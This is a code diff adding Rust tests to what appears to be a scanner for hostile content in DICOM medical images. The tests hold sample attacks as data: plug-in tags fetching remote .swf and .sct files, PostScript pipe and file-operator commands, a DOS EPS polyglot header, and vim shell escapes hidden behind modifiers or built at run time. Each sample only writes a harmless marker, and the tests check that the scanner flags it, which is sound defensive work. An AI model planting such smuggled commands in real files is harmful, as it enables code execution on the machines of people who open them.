@@ -240,6 +240,163 @@ fn markup_is_read_as_an_html_tokenizer_reads_it() {
     }
 }
 
+/// Issue 10 (session 13): plug-in content that runs code with no script of the page, named
+/// any of the ways a page names it (an `<applet>`, a Java or Flash MIME type on an
+/// `<object>` or `<embed>`, a `.swf` movie, a class id in backticks, which mshta's engine
+/// reads as quotes): Python's html.parser reads each tag as the search does, and each is
+/// an alert in a DICOM text element.
+#[test]
+fn plugin_content_in_markup_is_read_as_a_tokenizer_reads_it() {
+    let cases: [(&str, &str); 6] = [
+        (
+            "<applet code=\"Evil.class\" archive=\"evil.jar\" width=1></applet>",
+            "applet code 'Evil.class'",
+        ),
+        (
+            "<embed type=\"application/x-java-applet;version=1.6\" code=Evil.class>",
+            "embed type 'application/x-java-applet;version=1.6'",
+        ),
+        (
+            "<object type=application/x-shockwave-flash data=x></object>",
+            "object type 'application/x-shockwave-flash'",
+        ),
+        (
+            "<embed src=\"http://203.0.113.7/x.swf\">",
+            "embed src 'http://203.0.113.7/x.swf'",
+        ),
+        (
+            "<object classid=`clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389` data=`http://203.0.113.7/a.sct`>",
+            "object classid '`clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389`'",
+        ),
+        (
+            "<object classid=\"&#99;lsid&#x3a;{8AD9C840-044E-11D1-B3E9-00805F499D93}\">",
+            "object classid 'clsid:{8AD9C840-044E-11D1-B3E9-00805F499D93}'",
+        ),
+    ];
+    for (markup, parsed) in cases {
+        let seen = html_parser_attributes(markup);
+        assert!(
+            seen.contains(parsed),
+            "html.parser reads {markup:.60}: {seen}"
+        );
+        let dicom = kit::DicomBuilder::ct("1.2.3.41")
+            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
+            .build();
+        assert!(
+            has_alert(&inspect(&dicom), FindingKind::ActiveContent),
+            "{markup:.60}"
+        );
+    }
+    // A document, an image and prose naming the types run nothing.
+    for markup in [
+        "<object data=\"report.pdf\" type=\"application/pdf\"></object>",
+        "<embed src=\"scan.png\">",
+        "Plug-in types: application/x-java-applet, application/x-shockwave-flash.",
+    ] {
+        let dicom = kit::DicomBuilder::ct("1.2.3.42")
+            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
+            .build();
+        assert!(alerts(&inspect(&dicom)).is_empty(), "{markup}");
+    }
+}
+
+/// A DOS EPS binary header: magic, the PostScript section's offset and length, no WMF or
+/// TIFF preview, no checksum (as Adobe's format gives it, 30 bytes).
+fn dos_eps_header(ps_offset: u32, ps_len: u32) -> Vec<u8> {
+    let mut header = vec![0xC5, 0xD0, 0xD3, 0xC6];
+    for word in [ps_offset, ps_len, 0, 0, 0, 0] {
+        header.extend_from_slice(&word.to_le_bytes());
+    }
+    header.extend_from_slice(&[0xFF, 0xFF]);
+    header
+}
+
+/// What libmagic (`file -b`) calls `bytes`: the format sniffers of the readers that hand
+/// such files to Ghostscript see the same. Empty where `file` is not installed.
+fn libmagic(bytes: &[u8]) -> String {
+    let dir = TempDir::new();
+    let path = dir.path("sample");
+    std::fs::write(&path, bytes).expect("write");
+    Command::new("file")
+        .arg("-b")
+        .arg(&path)
+        .output()
+        .map(|out| String::from_utf8_lossy(&out.stdout).into_owned())
+        .unwrap_or_default()
+}
+
+/// Issue 10 (session 13): EPS and PostScript were not screened: an EPS (`%!PS-Adobe-3.0
+/// EPSF-3.0`) opening a pipe (`(%pipe%…) (w) file`) or using a file operator
+/// (`deletefile`, `renamefile`, `file`, `run`), and a DOS EPS binary header (`C5D0D3C6`) in
+/// a DICOM preamble pointing at such a PostScript section inside an element, got no
+/// finding. libmagic reads each EPS and DOS EPS file as EPS; each is an alert.
+#[test]
+fn eps_and_postscript_that_pipe_or_use_file_operators_are_alerts() {
+    let eps = |body: &str| {
+        format!(
+            "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n{body}\nshowpage\n%%EOF\n"
+        )
+        .into_bytes()
+    };
+    let postscript = |inspection: &Inspection| {
+        inspection.observations.iter().any(|o| {
+            o.severity == Severity::Alert && o.format == Some(pacsguard_dicom::Format::PostScript)
+        })
+    };
+    let magic = Path::new("/usr/bin/file").exists();
+    for body in [
+        "(%pipe%touch RAN) (w) file pop",
+        "<< /OutputFile (%pipe%touch RAN) >> setpagedevice",
+        "(/tmp/x) deletefile",
+        "(/tmp/x) (/tmp/y) renamefile",
+        "(/tmp/x.ps) run",
+    ] {
+        let file = eps(body);
+        if magic {
+            assert!(libmagic(&file).contains("EPS"), "{}", libmagic(&file));
+        }
+        let inspection = inspect(&file);
+        assert!(postscript(&inspection), "{body}: {inspection:?}");
+        // The DOS EPS form of the same program.
+        let mut binary = dos_eps_header(30, file.len() as u32);
+        binary.extend_from_slice(&file);
+        if magic {
+            assert!(libmagic(&binary).contains("EPS"), "{}", libmagic(&binary));
+        }
+        assert!(postscript(&inspect(&binary)), "DOS EPS {body}");
+    }
+    // A DICOM file whose preamble is a DOS EPS header pointing into a private element.
+    let section = eps("(%pipe%touch RAN) (w) file pop");
+    let mut value = section.clone();
+    if value.len() % 2 == 1 {
+        value.push(b' ');
+    }
+    let placeholder = dos_eps_header(0, 0);
+    let draft = kit::DicomBuilder::ct("1.2.3.43")
+        .preamble(&placeholder)
+        .element(0x0009, 0x1010, *b"OB", &value)
+        .build();
+    let at = memchr::memmem::find(&draft, &section).expect("section in the file");
+    let header = dos_eps_header(at as u32, section.len() as u32);
+    let dicom = kit::DicomBuilder::ct("1.2.3.43")
+        .preamble(&header)
+        .element(0x0009, 0x1010, *b"OB", &value)
+        .build();
+    assert_eq!(memchr::memmem::find(&dicom, &section), Some(at));
+    // (libmagic names it DICOM, by `DICM` at 128; Ghostscript, given the file, follows
+    // the DOS EPS header at its start: not installed here to prove it.)
+    assert!(postscript(&inspect(&dicom)), "{:?}", inspect(&dicom));
+    // An EPS that only draws, and the same words as text and comments, is no finding.
+    for body in [
+        "0 0 moveto /Helvetica findfont 10 scalefont setfont (run file deletefile) show",
+        "% (%pipe%touch RAN) (w) file",
+        "(%stdin) (r) file pop",
+    ] {
+        let inspection = inspect(&eps(body));
+        assert!(!postscript(&inspection), "{body}: {inspection:?}");
+    }
+}
+
 fn has_alert(inspection: &Inspection, kind: FindingKind) -> bool {
     inspection
         .observations
@@ -1121,6 +1278,112 @@ fn vim_strings_joined_into_a_shell_command_are_found() {
     ] {
         assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
     }
+}
+
+/// Issue 10 (session 13): an `:execute` string is an Ex command line of its own, and vim
+/// runs a shell escape in it behind command modifiers and ranges (`exe "silent !sh …"`,
+/// `exe "sil! !sh …"`, `exe 'sil' '!sh …'`, `exe "g/^/!sh …"`), as it does on a line of the
+/// file (`keepalt !sh …`, `noa sil keepj !sh …`); a string built from a variable or a call
+/// (`exe "!" . a`, `exe c`, `nr2char(33)`, `call system(g:p)`) hands vim a command known
+/// only when it runs. Each case is run by the real vim first, and each is an alert.
+#[test]
+fn vim_execute_strings_behind_modifiers_or_built_at_run_time_are_found() {
+    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
+    let vim = |escape: &[u8]| {
+        let file = [garbage, escape, b"\nq!\n"].concat();
+        let ran = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
+        (file, ran)
+    };
+    for escape in [
+        &b"exe \"silent !sh -c 'echo x > RAN'\""[..],
+        b"exe \"silent! !sh -c 'echo x > RAN'\"",
+        b"exe 'sil !sh -c \"echo x > RAN\"'",
+        b"exe 'keepalt !sh -c \"echo x > RAN\"'",
+        b"exe 'noautocmd !sh -c \"echo x > RAN\"'",
+        b"exe \"unsilent !sh -c 'echo x > RAN'\"",
+        b"exe 'silent' '!sh -c \"echo x > RAN\"'",
+        b"exe 'sil ' . 'keepalt ' . \"!sh -c 'echo x > RAN'\"",
+        b"exe \"echo 1|!sh -c 'echo x > RAN'\"",
+        b"exe \"echo 1\\n!sh -c 'echo x > RAN'\"",
+        b"exe \"r!sh -c 'echo x > RAN'\"",
+        b"exe \"rea !sh -c 'echo x > RAN'\"",
+        b"exe \"wri !sh -c 'echo x > RAN'\"",
+        b"exe \"filter /x/ !sh -c 'echo x > RAN'\"",
+        b"exe \"g/^/!sh -c 'echo x > RAN'\"",
+        b"keepalt !sh -c 'echo x > RAN'",
+        b"noa sil keepj !sh -c 'echo x > RAN'",
+        b"sil keepalt r !sh -c 'echo x > RAN'",
+        b"vert !sh -c 'echo x > RAN'",
+        b"3verbose !sh -c 'echo x > RAN'",
+        // Built at run time: the command is known only when vim runs the line.
+        b"let a = 'sh -c \"echo x > RAN\"'\nexe \"!\".a",
+        b"let c='!sh -c \"echo x > RAN\"'\nexe c",
+        b"let c='!sh -c \"echo x > RAN\"'\nexe 'sil ' . c",
+        b"exe 'sil' . ' ' . nr2char(33) . 'sh -c \"echo x > RAN\"'",
+        b"let g:p = 'sh -c \"echo x > RAN\"'\ncall system(g:p)",
+        b"let a = '; sh -c \"echo x > RAN\"'\nexe '!true ' . a",
+    ] {
+        let (file, ran) = vim(escape);
+        assert!(ran, "vim did not run {:?}", String::from_utf8_lossy(escape));
+        let found = pacsguard_dicom::find_ex_command(&file);
+        assert!(
+            found
+                .as_ref()
+                .is_some_and(|c| c.severity == Severity::Alert),
+            "{:?}: {found:?}",
+            String::from_utf8_lossy(escape)
+        );
+    }
+    // What vim refuses or runs no shell for, and prose, is no command.
+    for text in [
+        &b"exe 'sandbox !sh -c \"echo x > RAN\"'"[..],
+        b"let n = 3\nexe \"normal! \" . n . \"j\"",
+        b"let t = 3\nexe \"echo 'time:\" . t . \"'\"",
+        b"exe 'normal' . '!sh -c \"echo x > RAN\"'",
+        b"execute the plan\nexecute immediately",
+        b"exe 'echo \"done!\"'",
+    ] {
+        let (file, ran) = vim(text);
+        assert!(!ran, "vim ran {:?}", String::from_utf8_lossy(text));
+        assert_eq!(
+            pacsguard_dicom::find_ex_command(&file),
+            None,
+            "{:?}",
+            String::from_utf8_lossy(text)
+        );
+    }
+}
+
+/// MAX_EX_MODIFIERS: the walk back from a `!` reads that many command modifiers (vim runs
+/// the escape behind them, and a word before them that is no command stops it); past
+/// the limit the `!` counts as an escape without reading further (reported, never
+/// silent).
+#[test]
+fn modifiers_before_an_escape_are_read_to_their_limit_and_past_it_reported() {
+    let limit = pacsguard_dicom::MAX_EX_MODIFIERS;
+    let escape = "!sh -c 'echo x > RAN'\n";
+    let line =
+        |prefix: &str, n: usize| format!("\u{7f} garbage\n{prefix}{}{escape}", "sil ".repeat(n));
+    let vim_runs = |text: &str| {
+        runs_in_dir(
+            "vim",
+            &["-es", "-u", "NONE", "-i", "NONE"],
+            format!("{text}q!\n").as_bytes(),
+            &[],
+        )
+    };
+    // At the limit: read to the line start, and a word that is no command stops it.
+    let at = line("", limit);
+    assert!(vim_runs(&at));
+    let found = pacsguard_dicom::find_ex_command(at.as_bytes());
+    assert!(found.is_some_and(|c| c.severity == Severity::Alert));
+    let stopped = line("xyz ", limit);
+    assert!(!vim_runs(&stopped));
+    assert_eq!(pacsguard_dicom::find_ex_command(stopped.as_bytes()), None);
+    // One more: the walk stops at the limit and the escape is reported.
+    let past = line("xyz ", limit + 1);
+    let found = pacsguard_dicom::find_ex_command(past.as_bytes());
+    assert!(found.is_some_and(|c| c.severity == Severity::Alert));
 }
 
 /// The limit on `!` lines modelled (each line to its end): lines that add up to
